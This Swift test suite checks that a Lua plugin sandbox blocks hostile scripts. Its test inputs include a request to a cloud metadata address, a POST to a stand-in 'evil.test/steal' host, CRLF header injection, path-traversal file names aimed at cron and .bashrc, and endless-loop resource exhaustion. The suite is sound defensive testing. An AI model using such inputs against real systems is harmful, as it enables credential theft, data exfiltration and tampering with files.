import AgentTesting
import Rehearsal
import RunCore
import Testing

/// Scripts that mean harm (H1, H4, H5, H7, H13, H14, H16 to H18, H23 and H25 of the hostile cases).
@Suite(.hangGuard)
struct HostileScriptTests {
    private static let start = #"ctx.trigger { "POST /jobs", remote = { id = "json.id" } }"#

    /// Drives a script after its start, and gives the run and the requests after it.
    private func outcome(of body: String) async throws -> (run: Run, requests: [String]) {
        let service = BulkService()
        let run = try await ScriptBench("\(Self.start)\n\(body)").drive(over: service)
        return (run, Array(service.requests.dropFirst()))
    }

    /// H14.
    @Test(arguments: [
        #""GET http://169.254.169.254/latest""#, #""POST https://evil.test/steal", json = { a = 1 }"#,
        #""GET /x", headers = { ["X-A"] = "b\r\nHost: x" }"#,
        #""GET /x", headers = { Authorization = "Bearer stolen" }"#,
    ])
    func refusedRequestMayBeCaughtAndNothingIsSent(request: String) async throws {
        let (run, requests) = try await outcome(
            of: """
                local ok, problem = pcall(ctx.request, { \(request) })
                return { result = { ok = ok, kind = problem.kind, text = problem.message } }
                """
        )
        #expect(run.state == .succeeded)
        #expect(run.result["ok"] == false)
        #expect(run.result["kind"] == "forbidden")
        #expect(run.result["text"]?.string?.contains("bulk-secret") == false)
        #expect(requests.isEmpty)
    }

    /// H1: not caught, it ends the run at the plugin's line.
    @Test func refusedRequestIsAFaultAtItsLine() async throws {
        let (run, requests) = try await outcome(of: #"ctx.request { "GET http://169.254.169.254/latest" }"#)
        #expect(run.exitStatus == .pluginFault)
        #expect(run.reason?.contains("is not one of this plugin's hosts") == true)
        #expect(run.reason?.contains("bulk.lua:10") == true, "\(run.reason ?? "")")
        #expect(requests.isEmpty)
    }

    /// H7.
    @Test(arguments: [
        ("../../x", "_.._x"), ("/etc/cron.d/x", "_etc_cron.d_x"), (".bashrc", "bashrc"), ("-rf", "rf"),
        ("", "artifact"),
        ("a\\u{202E}gpj.exe", "agpj.exe"), ("a\\0b\\27[2J", "ab[2J"), ("..", "artifact"),
    ])
    func downloadStaysInItsFolderUnderASafeName(wish: String, name: String) async throws {
        let (run, _) = try await outcome(
            of: #"ctx.download { "GET /jobs/job-1/results?page=1", name = "\#(wish)" }"#
        )
        #expect(run.artifacts.map(\.name) == [name])
    }

    @Test func downloadFromAForeignHostWritesNothing() async throws {
        let bench = try await ScriptBench("\(Self.start)\nctx.download { \"GET https://evil.test/x\", name = \"x\" }")
        let service = BulkService()
        let run = try await bench.drive(over: service)
        #expect(run.exitStatus == .pluginFault)
        #expect(service.requests == ["POST /jobs"])
        #expect(bench.artifacts.files.isEmpty)
        #expect(bench.artifacts.temporaryNames.isEmpty)
    }

    /// H13.
    @Test(arguments: [
        #"local _ = ("x"):gsub("x", function() ctx.request { "GET /nothing" } end)"#,
        #"table.sort({ 2, 1 }, function() ctx.sleep(1) return true end)"#,
    ])
    func requestInsideACallbackSaysWhy(body: String) async throws {
        let (run, requests) = try await outcome(of: body)
        #expect(run.exitStatus == .pluginFault)
        #expect(run.reason?.contains("cannot be used here") == true, "\(run.reason ?? "")")
        #expect(requests.isEmpty)
    }

    /// H17 and H18, and sandbox row 29: what costs little is counted.
    @Test(arguments: [
        (#"while true do agent.log.info("x") end"#, "quota"),
        (#"while true do pcall(agent.log.info, "x") end"#, "quota"),
        ("while true do pcall(ctx.request, {}) end", ""),
        (#"while true do pcall(ctx.request, { "GET https://evil.test/" }) end"#, "more than 1000 calls"),
        ("while true do ctx.sleep(0) end", "more than 1000 calls"),
        ("while true do ctx.progress { percent = 1 } end", "more than 1000 calls"),
    ])
    func endlessCheapCallsEndInAFault(body: String, words: String) async throws {
        let (run, requests) = try await outcome(of: body)
        #expect(run.state == .unwatched)
        #expect(run.exitStatus == .pluginFault)
        #expect(run.reason?.contains(words) == true, "\(run.reason ?? "")")
        #expect(requests.isEmpty)
    }

    /// H16 and H25: a sleep ends at once when the host is stopped, and the run goes on from there.
    @Test(arguments: ["while true do ctx.sleep(1) end", #"ctx.sleep("1h")"#])
    func stoppedHostDoesNotWaitForASleep(body: String) async throws {
        let bench = try await ScriptBench("\(Self.start)\n\(body)", clock: VirtualClock(.manual))
        let service = BulkService()
        let driving = Task { try await bench.drive(over: service) }
        await bench.clock.waitForSleepers()
        driving.cancel()
        let run = try await driving.value
        #expect(run.state == .unwatched)
        #expect(run.reasonClass == .interrupted)
        #expect(run.remote == ["id": "job-1"])
        let answered = try await bench.journal().filter { if case .scriptAnswered = $0 { true } else { false } }
        #expect(answered.count == 1)
        let resumed = Task { try await bench.drive(over: service) }
        await bench.clock.waitForSleepers()
        resumed.cancel()
        #expect(try await resumed.value.state == .unwatched)
        #expect(service.requests == ["POST /jobs"])
    }

    /// H23.
    @Test func runsOfOnePluginShareNoVariables() async throws {
        let body = """
            counter.runs = (counter.runs or 0) + 1
            \(Self.start)
            ctx.sleep(1)
            counter.runs = counter.runs + 1
            return { result = { runs = counter.runs } }
            """
        let first = try await ScriptBench(body, before: "local counter = {} ")
        let second = try await ScriptBench(body, before: "local counter = {} ", storage: first.storage, number: 2)
        async let one = first.drive(over: BulkService())
        async let other = second.drive(over: BulkService())
        for run in [try await one, try await other] { #expect(run.result == ["runs": 2]) }
    }
}
